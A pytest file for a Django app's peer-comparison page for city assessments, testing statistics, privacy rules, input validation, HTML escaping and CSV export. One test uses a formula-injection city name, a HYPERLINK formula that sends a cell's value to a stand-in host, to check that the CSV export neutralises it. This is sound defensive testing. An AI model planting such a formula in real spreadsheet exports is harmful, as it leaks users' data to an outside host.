"""The compare page: peer groups, statistics against literal numbers, privacy rules, bad input, CSV."""

import csv
import io
import re
from decimal import Decimal

import pytest
from django.urls import reverse

from assessments.models import Assessment

from .compare_helpers import DIMENSIONS, peer_city, scored_assessment

pytestmark = pytest.mark.django_db

PEER_WELCOME = [40, 50, 50, 60, 90]  # welcome-entry scores of five peers


@pytest.fixture
def subject(city, lead):
    return scored_assessment(city, 2026, 50)


@pytest.fixture
def five_peers(subject):
    peers = []
    for number, welcome in enumerate(PEER_WELCOME):
        other = peer_city(f"Peer {number}", region="europe")
        peers.append(
            scored_assessment(
                other, 2025, {**dict.fromkeys(DIMENSIONS, 60), "welcome-entry": welcome}, public=number < 3
            )
        )
    return peers


def compare_url(assessment, query=""):
    url = reverse("assessment_compare", kwargs={"slug": assessment.city.slug, "pk": assessment.pk})
    return f"{url}?{query}" if query else url


def table_rows(html):
    table = html.split('id="compare-table"')[1].split("</table>")[0]
    rows = {}
    for row in re.findall(r"<tr[^>]*>(.*?)</tr>", table, flags=re.S):
        cells = [re.sub(r"<[^>]+>", "", cell).strip() for cell in re.findall(r"<t[hd][^>]*>(.*?)</t[hd]>", row, re.S)]
        if cells and cells[0] != "Dimension":
            rows[cells[0]] = cells[1:]
    return rows


def test_one_groups_statistics_against_literal_numbers(client, lead, subject, five_peers):
    client.force_login(lead)
    html = client.get(compare_url(subject, "group=all")).content.decode()
    assert "5 cities are in this group." in html
    # Welcome & entry: peers 40, 50, 50, 60, 90 and the city 50.
    # median = 50; p25 at position 0.25 × 4 = 1 → 50; p75 at position 3 → 60;
    # rank = (1 below + ½ × 2 equal) ÷ 5 × 100 = 40. n = 5 < 10: no lowest or highest.
    assert table_rows(html)["Welcome &amp; entry"] == ["50.0", "50.0", "50.0", "60.0", "—", "—", "40.0"]


def test_the_csv_has_the_same_numbers_as_the_page(client, lead, subject, five_peers):
    client.force_login(lead)
    html = client.get(compare_url(subject, "group=all")).content.decode()
    response = client.get(
        reverse("assessment_compare_csv", kwargs={"slug": subject.city.slug, "pk": subject.pk}) + "?group=all"
    )
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert ["Cities in the group (n)", "5"] in rows
    by_name = {
        row[0]: [cell or "—" for cell in row[1:]]
        for row in rows[rows.index(next(r for r in rows if r and r[0] == "Dimension")) + 1 :]
    }
    page = {name.replace("&amp;", "&"): cells for name, cells in table_rows(html).items()}
    assert by_name == page


def test_too_few_cities_shows_no_aggregates(client, lead, subject, five_peers):
    client.force_login(lead)
    html = client.get(compare_url(subject, "group=picked&city=peer-0&city=peer-1&city=peer-2")).content.decode()
    assert "3 cities are in this group." in html
    assert "Too few cities to compare." in html
    assert 'id="compare-table"' not in html


@pytest.mark.parametrize(
    ("query", "expected_n", "words"),
    [
        ("group=all", 5, "All cities"),
        ("group=region", 5, "Cities in Europe"),
        ("group=type", 5, "Cities of the same type"),
        ("group=size", 5, "metropolitan population of 1 M to under 3 M"),
    ],
)
def test_each_kind_of_group_states_its_definition_and_n(client, lead, subject, five_peers, query, expected_n, words):
    client.force_login(lead)
    html = client.get(compare_url(subject, query)).content.decode()
    assert words in html
    assert f"{expected_n} cities are in this group." in html


def test_each_city_counts_once_with_its_latest_assessment_in_the_window(client, lead, subject, five_peers):
    other = Assessment.objects.get(pk=five_peers[0].pk).city
    scored_assessment(other, 2026, 10, city_type="world-city")  # its latest: another type
    scored_assessment(peer_city("Old Town"), 2023, 70)  # outside 2024–2026
    client.force_login(lead)
    assert "5 cities are in this group." in client.get(compare_url(subject, "group=all")).content.decode()
    assert "4 cities are in this group." in client.get(compare_url(subject, "group=type")).content.decode()


def test_demo_assessments_join_only_in_demo_mode(client, lead, subject, five_peers, settings):
    scored_assessment(peer_city("Demo Peer"), 2026, 70, demo=True)
    client.force_login(lead)
    settings.DEMO_MODE = False
    assert "5 cities are in this group." in client.get(compare_url(subject, "group=all")).content.decode()
    settings.DEMO_MODE = True
    html = client.get(compare_url(subject, "group=all")).content.decode()
    assert "6 cities are in this group." in html
    assert "demonstration data" in html


def test_only_published_cities_are_named(client, lead, subject, five_peers):
    client.force_login(lead)
    html = client.get(compare_url(subject, "group=all")).content.decode()
    assert "Peer 0" in html and "Peer 2" in html
    assert "Peer 3" not in html and "Peer 4" not in html


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("group=everyone", "There is no group “everyone”"),
        ("group=picked&city=atlantis", "No city with these addresses: atlantis."),
        ("group=picked&city=peer-4", "have not published a profile"),
        ("group=picked&" + "&".join(f"city=c{number}" for number in range(500)), "At most 50 cities can be picked"),
    ],
)
def test_bad_queries_get_a_clear_message(client, lead, subject, five_peers, query, message):
    client.force_login(lead)
    response = client.get(compare_url(subject, query))
    assert response.status_code == 200
    assert message in response.content.decode()


def test_a_draft_or_another_citys_assessment_is_not_found(client, lead, outsider, subject):
    client.force_login(outsider)
    assert client.get(compare_url(subject)).status_code == 404
    subject.status = Assessment.Status.DRAFT
    subject.save()
    client.force_login(lead)
    assert client.get(compare_url(subject)).status_code == 404


def test_strengths_and_weaknesses_in_words(client, lead, city, five_peers):
    subject = scored_assessment(
        city, 2026, {**dict.fromkeys(DIMENSIONS, 60), "welcome-entry": 30, "global-presence": Decimal("72.5")}
    )
    client.force_login(lead)
    html = client.get(compare_url(subject, "group=all")).content.decode()
    assert "12.5 points above the peer median of 60.0" in html
    assert "20.0 points below the peer median of 50.0" in html


def test_the_profile_offers_compare_and_draws_the_peer_median(client, lead, subject, five_peers):
    client.force_login(lead)
    html = client.get(
        reverse("assessment_profile", kwargs={"slug": subject.city.slug, "pk": subject.pk})
    ).content.decode()
    assert compare_url(subject) in html
    assert "The dashed line is the median of 5 cities: Cities of the same type" in html


def test_without_peers_the_profile_says_why_there_is_no_peer_line(client, lead, subject):
    client.force_login(lead)
    html = client.get(
        reverse("assessment_profile", kwargs={"slug": subject.city.slug, "pk": subject.pk})
    ).content.decode()
    assert "No peer line: fewer than 5 other cities" in html


def test_the_same_city_picked_twice_counts_once(client, lead, subject, five_peers):
    client.force_login(lead)
    query = "group=picked&" + "&".join("city=peer-0" for _ in range(60))
    html = client.get(compare_url(subject, query)).content.decode()
    assert "At most 50 cities" not in html
    assert "1 city is in this group." in html


def test_published_peers_link_to_their_public_profiles_and_names_are_escaped(client, lead, subject, five_peers):
    from assessments.models import City

    City.objects.filter(slug="peer-1").update(name="Peer <b>1</b>")
    client.force_login(lead)
    html = client.get(compare_url(subject, "group=all")).content.decode()
    assert reverse("public_profile", kwargs={"slug": "peer-0", "year": 2025}) in html
    assert "Peer &lt;b&gt;1&lt;/b&gt;" in html and "Peer <b>1</b>" not in html
    assert 'name="add" value="peer-0"' in html


def test_the_csv_writes_a_city_name_that_looks_like_a_formula_as_text(client, lead, subject, five_peers):
    name = '=HYPERLINK("http://x/?"&B2,"a")'
    subject.city.name = name
    subject.city.save()
    client.force_login(lead)
    response = client.get(
        reverse("assessment_compare_csv", kwargs={"slug": subject.city.slug, "pk": subject.pk}) + "?group=all"
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:2] == ["City", "'" + name]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
